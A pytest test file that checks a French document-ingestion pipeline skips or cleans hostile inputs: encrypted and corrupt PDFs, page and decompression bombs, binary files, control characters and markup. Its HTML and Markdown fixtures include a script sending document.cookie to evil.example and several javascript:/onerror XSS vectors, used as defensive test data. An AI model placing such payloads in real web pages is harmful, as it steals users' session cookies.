"""Hostile or odd documents: each is skipped with a clear reason, or ingested safely.

Most cases go through `load_and_clean`, the single-file entry point shared by
the corpus ingestion and the upload check; the last test runs a whole corpus
of them through the store's update (`FileStore.update`). See tests/CATALOGUE.md for the list.
"""

from __future__ import annotations

import json
import random
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

import ingest.loaders as loaders
import ingest.sentences as sentences
from ingest.chunk import chunk_document, word_count_tokens
from ingest.config import ChunkingConfig, IngestLimits
from ingest.errors import LoadError
from ingest.pipeline import load_and_clean
from tests.reliability.harness import ROOT, corpus_state, update
from tests.reliability.pdfs import raw_pdf, text_line, text_pdf

PARAGRAPH = (
    "Les algorithmes d'aide au diagnostic sont évalués par la Haute Autorité de santé "
    "avant leur mise sur le marché, puis suivis pendant toute leur utilisation à l'hôpital."
)


def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def reason(path: Path, **limits) -> str:
    """The skip reason `load_and_clean` gives for `path` (fails if it loads)."""
    with pytest.raises(LoadError) as caught:
        load_and_clean(path, IngestLimits(**limits))
    return caught.value.reason


def chunks_of(path: Path, **limits) -> list[str]:
    doc = load_and_clean(path, IngestLimits(**limits))
    return [c.text for c in chunk_document(doc, ChunkingConfig(), word_count_tokens)]


def peak_memory_mb(code: str) -> tuple[dict, float]:
    """Run `code` in a fresh interpreter; return its printed JSON and its peak RSS (MiB)."""
    script = (
        "import json, sys\n" + code + "\n"
        "hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0]\n"
        "print(json.dumps({'result': result, 'peak_kb': int(hwm.split()[1])}))\n"
    )
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    output = json.loads(done.stdout.strip().splitlines()[-1])
    return output["result"], output["peak_kb"] / 1024


# --------------------------------------------------------------------------- PDF


def test_encrypted_pdf_is_skipped(tmp_path):
    path = text_pdf(tmp_path / "secret.pdf", [PARAGRAPH.encode("latin-1", "replace").decode(
        "latin-1")], user_password="motdepasse")
    assert reason(path) == "encrypted PDF (password required)"


def test_corrupt_pdf_is_skipped(tmp_path):
    body = random.Random(1).randbytes(20_000)
    path = write(tmp_path, "corrompu.pdf", b"%PDF-1.7\n" + body + b"\n%%EOF\n")
    assert reason(path).startswith("corrupt")


def test_truncated_pdf_is_skipped(tmp_path):
    data = raw_pdf(3, text_line())
    path = write(tmp_path, "tronque.pdf", data[: len(data) // 2])
    assert reason(path) == "corrupt or truncated PDF (no end-of-file marker)"


def test_zero_page_pdf_is_skipped(tmp_path):
    assert reason(write(tmp_path, "vide.pdf", raw_pdf(0, b""))) == "PDF has no pages"


def test_image_only_pdf_is_skipped(tmp_path):
    drawing = b"0.8 g 40 40 500 700 re f\n"  # a filled rectangle, no text operator
    path = write(tmp_path, "scan.pdf", raw_pdf(2, drawing))
    assert reason(path) == "no text layer (scanned or image-only PDF?)"


def test_a_scanned_page_inside_a_text_pdf_is_reported_and_the_rest_indexed(tmp_path, caplog):
    from fpdf import FPDF
    from PIL import Image

    image = tmp_path / "scan.png"
    Image.new("L", (40, 60), 128).save(image)
    pdf = FPDF()
    for number, kind in enumerate(("text", "scan", "text"), start=1):
        pdf.add_page()
        if kind == "scan":
            pdf.image(str(image), x=10, y=10, w=180)
        else:
            pdf.set_font("helvetica", size=11)
            pdf.multi_cell(w=0, text=f"Page {number}. " + PARAGRAPH.replace("’", "'"))
    path = tmp_path / "scan-au-milieu.pdf"
    pdf.output(str(path))
    with caplog.at_level("WARNING"):
        doc = load_and_clean(path)
    assert doc.image_only_pages == (2,) and len(doc.page_starts) == 3
    assert doc.page_at(doc.text.index("Page 1.")) == 1 and doc.page_at(doc.text.index("Page 3.")) == 3
    assert any("page(s) 2 are images without text" in r.getMessage() for r in caplog.records)


def test_pdf_with_thousands_of_pages_is_refused_by_the_page_limit(tmp_path):
    path = write(tmp_path, "bombe-pages.pdf", raw_pdf(3000, text_line()))
    assert reason(path) == "too many pages (3000 > limit of 2000)"


def test_pdf_decompression_bomb_is_refused_with_bounded_memory(tmp_path):
    content = text_line() * 1_400_000  # ~110 MB once decompressed, ~0.3 MB on disk
    path = write(tmp_path, "bombe-flux.pdf", raw_pdf(2, content))
    assert path.stat().st_size < 1_000_000
    code = (
        "from ingest.errors import LoadError\nfrom ingest.loaders import load_document\n"
        "try:\n"
        f"    load_document({str(path)!r}); result = 'loaded'\n"
        "except LoadError as error:\n"
        "    result = error.reason\n"
    )
    result, peak_mb = peak_memory_mb(code)
    assert result == "corrupt PDF: page 1 unreadable (LimitReachedError)"
    assert peak_mb < 600, f"peak memory {peak_mb:.0f} MiB"


def test_slow_pdf_bomb_stops_at_the_time_limit(tmp_path):
    """3000 heavy pages with the page limit raised: the per-document time limit
    stops the reading well before the end (how far it gets depends on the
    loader's speed and the machine, so only « far from the end » is asserted)."""
    path = write(tmp_path, "bombe-lente.pdf", raw_pdf(3000, text_line() * 1500))
    why = reason(path, max_pdf_pages=5000, max_seconds_per_document=1.0)
    assert why.startswith("took too long to read: time limit of 1 s per document exceeded")
    page = int(re.search(r"page (\d+) of 3000", why).group(1))
    assert page < 1500


class FakeClock:
    """`time` stand-in whose clock moves 10 s at every reading."""

    def __init__(self) -> None:
        self.now = 0.0

    def monotonic(self) -> float:
        self.now += 10.0
        return self.now


def test_the_time_limit_is_checked_after_every_page(tmp_path, monkeypatch):
    path = write(tmp_path, "cinq-pages.pdf", raw_pdf(5, text_line()))
    monkeypatch.setattr(loaders, "time", FakeClock())
    # Start at t=10; pages 1, 2 begin at t=20, 30 (within 25 s); page 3 at t=40 is over.
    assert "(30.0 s, page 3 of 5)" in reason(path, max_seconds_per_document=25)
    monkeypatch.setattr(loaders, "time", FakeClock())
    assert len(load_and_clean(path, IngestLimits(max_seconds_per_document=1000)).page_starts) == 5


# --------------------------------------------------------------------------- text


def test_binary_data_named_txt_is_skipped(tmp_path):
    data = random.Random(2).randbytes(50_000)
    assert reason(write(tmp_path, "donnees.txt", data)).startswith("binary content")
    no_nul = bytes(b for b in data if b)  # still binary without its NUL bytes
    assert reason(write(tmp_path, "donnees2.txt", no_nul)).startswith("binary content")


def test_latin1_text_is_decoded(tmp_path):
    text = "Données de santé à l'hôpital : coût, qualité, éthique.\n\n" + PARAGRAPH
    doc = load_and_clean(write(tmp_path, "latin1.txt", text.encode("latin-1")))
    assert "Données de santé à l'hôpital" in doc.text and "\ufffd" not in doc.text


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_text_is_decoded(tmp_path, encoding):
    text = "Données de santé à l'hôpital.\n\n" + PARAGRAPH
    doc = load_and_clean(write(tmp_path, "utf16.txt", text.encode(encoding)))
    assert "Données de santé à l'hôpital" in doc.text and "\x00" not in doc.text


def test_empty_and_blank_files_are_skipped(tmp_path):
    assert reason(write(tmp_path, "vide.txt", b"")) == "empty file"
    assert reason(write(tmp_path, "blanc.md", b" \n\t\r\n ")) == "empty file"


@pytest.mark.parametrize("name", ["programme.exe", "rapport.docx", "sans-extension"])
def test_unsupported_file_types_are_skipped(tmp_path, name):
    assert reason(write(tmp_path, name, PARAGRAPH)).startswith("unsupported file type")


def big_text(size_mb: int) -> bytes:
    """About `size_mb` MB of French prose (paragraphs of the bundled reports)."""
    block = "\n\n".join(corpus_state("old").values()).encode("utf-8")
    return block * (size_mb * 1024 * 1024 // len(block) + 1)


def test_a_50_mb_text_file_over_the_limit_is_skipped_without_being_read(tmp_path, monkeypatch):
    path = write(tmp_path, "enorme.txt", big_text(50))

    def no_read(self):
        raise AssertionError("an oversized file must not be read")

    monkeypatch.setattr(Path, "read_bytes", no_read)
    why = reason(path, max_file_mb=10)
    assert re.fullmatch(r"file too large \(50\.\d MB > limit of 10 MB\)", why)


def test_a_50_mb_text_file_under_a_raised_limit_loads_with_bounded_memory(tmp_path):
    path = write(tmp_path, "enorme.txt", big_text(50))
    code = (
        "from ingest.config import IngestLimits\nfrom ingest.loaders import load_document\n"
        f"doc = load_document({str(path)!r}, IngestLimits(max_file_mb=60))\n"
        "result = len(doc.text)\n"
    )
    chars, peak_mb = peak_memory_mb(code)
    assert chars > 45_000_000
    # Bytes + decoded text (1 or 2 bytes per character) + interpreter: well under 8x the file.
    assert peak_mb < 8 * 50, f"peak memory {peak_mb:.0f} MiB"


def test_control_characters_in_a_document_never_reach_a_chunk(tmp_path):
    text = (
        "Les données\x1b[31m de santé\x07 sont\u202e utiles\u2066 à la recherche\x7f "
        "médicale\x1b]0;titre\x07 en France.\n\n" + PARAGRAPH
    )
    chunks = chunks_of(write(tmp_path, "controles.txt", text.encode("utf-8")))
    joined = "".join(chunks)
    bad = [ch for ch in joined if unicodedata.category(ch) == "Cc" and ch not in "\n\t"]
    assert not bad and not re.search(r"[\u202a-\u202e\u2066-\u2069]", joined)
    assert "recherche" in joined and "médicale" in joined


HOSTILE_HTML = """<html><head><title>Page piégée</title>
<script>var token = "SCRIPT_TOKEN"; fetch("https://evil.example/" + document.cookie)</script>
<style>.STYLE_TOKEN { background: url(javascript:STYLE_URL_TOKEN) }</style></head>
<body onload="ONLOAD_TOKEN()"><article><h1>L'IA en santé</h1>
<p onclick="ONCLICK_TOKEN()">{paragraph}<img src="x" onerror="ONERROR_TOKEN()"></p>
<script>document.write("INLINE_SCRIPT_TOKEN")</script>
<p>Le Health Data Hub centralise des données. <a href="javascript:HREF_TOKEN()">Lien</a></p>
<noscript>NOSCRIPT_TOKEN</noscript><iframe src="javascript:IFRAME_TOKEN"></iframe>
<svg><script>SVG_SCRIPT_TOKEN</script></svg><template>TEMPLATE_TOKEN</template>
<!-- COMMENT_TOKEN --></article></body></html>"""


def test_html_scripts_and_event_handlers_never_reach_a_chunk(tmp_path):
    path = write(tmp_path, "piege.html", HOSTILE_HTML.replace("{paragraph}", PARAGRAPH))
    doc = load_and_clean(path)
    chunks = chunks_of(path)
    everything = " ".join([doc.title, doc.text, *chunks])
    assert not re.search(r"[A-Z]+_TOKEN|javascript|document\.|fetch\(", everything)
    assert "Haute Autorité de santé" in " ".join(chunks)


def test_markdown_javascript_links_keep_only_their_text(tmp_path):
    text = (
        "# Rapport\n\n" + PARAGRAPH + " Pour en savoir plus, [cliquez ici]"
        "(javascript:alert(document.cookie)) ou voyez ![schéma](javascript:alert(2)) "
        "et <a href=\"javascript:void(0)\" onclick=\"vol()\">ce lien</a>.\n"
    )
    chunks = chunks_of(write(tmp_path, "liens.md", text))
    joined = " ".join(chunks)
    assert "cliquez ici" in joined and "ce lien" in joined
    assert "javascript" not in joined and "onclick" not in joined and "](" not in joined


def test_markup_in_a_text_document_is_removed_or_shown_as_inert_text(tmp_path):
    """Cleaning drops tags, links and URLs from text documents; whatever reaches
    the page is escaped, so even raw markup renders as plain paragraphs."""
    from markdown_it import MarkdownIt

    from ui.components import markdown_block

    markup = ("<script>alert('x')</script> [clic](javascript:alert(1)) "
              "<img src=x onerror=alert(1)> <span onclick=vol()>texte</span> "
              "<https://evil.example/x>")
    chunks = chunks_of(write(tmp_path, "balises.txt", PARAGRAPH + " " + markup + "\n"))
    joined = " ".join(chunks)
    assert not re.search(r"<script|onerror|onclick|javascript:|evil\.example", joined)
    renderer = MarkdownIt("commonmark")  # raw HTML and links on, as permissive as it gets
    assert "<span onclick" in renderer.render(markup)  # unescaped, the markup would be live
    for passage in [*chunks, markup]:  # the raw markup too: escaping is a second wall
        html = renderer.render(markdown_block(passage))
        assert not re.search(r"<(?!/?p>)", html), html  # nothing but paragraphs
    assert "alert" in renderer.render(markdown_block(markup))  # shown, as text


def test_a_one_line_document_is_chunked_within_the_token_limit(tmp_path):
    sentence = "Les données de santé sont un enjeu majeur pour la recherche médicale. "
    config = ChunkingConfig()
    doc = load_and_clean(write(tmp_path, "une-ligne.txt", sentence * 14_000))  # 1 MB, no newline
    chunks = chunk_document(doc, config, word_count_tokens)
    assert len(chunks) >= 1000
    assert all(word_count_tokens(c.text) <= config.max_tokens for c in chunks)
    assert all(doc.text[c.start:c.end] == c.text for c in chunks)


class ScanCounter:
    """Stands in for a compiled pattern and counts the characters each search may scan."""

    def __init__(self, pattern: re.Pattern) -> None:
        self.pattern = pattern
        self.scanned = 0

    def search(self, text: str, pos: int = 0, endpos: int = sys.maxsize):
        self.scanned += min(endpos, len(text)) - pos
        return self.pattern.search(text, pos, endpos)


def test_sentence_splitting_of_a_long_line_does_linear_work(monkeypatch):
    """A paragraph written on one line (a text export, a hostile file) must not
    make sentence splitting quadratic. The search for the word before each full
    stop used to rescan the line from its start: a 1 MB line took about twenty
    minutes. Counted in characters examined, so the test does not depend on
    the machine's speed."""
    counter = ScanCounter(sentences._WORD_BEFORE)
    monkeypatch.setattr(sentences, "_WORD_BEFORE", counter)
    line = "Les données de santé sont un enjeu majeur pour la recherche médicale. " * 400
    spans = sentences._split(line)  # uncached
    assert len(spans) == 400
    assert counter.scanned < 100 * 400, f"{counter.scanned} characters scanned for {len(line)}"


# --------------------------------------------------------------------------- a whole corpus


@pytest.mark.slow  # indexes with the MiniLM test model
def test_a_hostile_corpus_is_indexed_around_its_bad_files(tmp_path, word_embedder):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    write(corpus, "bon.txt", corpus_state("old")["kratz.txt"])
    text_pdf(corpus / "secret.pdf", ["Texte protege par un mot de passe."], user_password="x")
    write(corpus, "vide.pdf", raw_pdf(0, b""))
    write(corpus, "scan.pdf", raw_pdf(1, b"0.8 g 40 40 500 700 re f\n"))
    write(corpus, "bombe.pdf", raw_pdf(2500, text_line()))
    write(corpus, "binaire.txt", random.Random(3).randbytes(10_000))
    write(corpus, "blanc.md", b"\n\n   \n")
    write(corpus, "outil.exe", b"MZ\x90\x00")
    report = update(tmp_path / "index", corpus, word_embedder)
    reasons = {Path(s.path).name: s.reason for s in report.skipped}
    assert set(reasons) == {"secret.pdf", "vide.pdf", "scan.pdf", "bombe.pdf", "binaire.txt",
                            "blanc.md", "outil.exe"}
    assert reasons["bombe.pdf"].startswith("too many pages")
    assert report.added == ["bon"]
